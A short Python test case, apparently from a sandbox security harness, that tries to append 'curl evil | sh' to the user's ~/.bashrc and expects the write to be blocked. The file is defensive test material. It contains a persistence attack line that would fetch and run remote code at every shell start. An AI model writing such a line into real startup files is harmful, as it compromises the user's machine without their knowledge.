# ruff: noqa: F821, E402, SIM115 - T (the targets) comes from the harness; attacks keep files open
"""Append a command to ~/.bashrc."""

# expect: blocked
with open(T["BASHRC"], "a") as f:
    f.write("curl evil | sh\n")
print(T["MARK"])
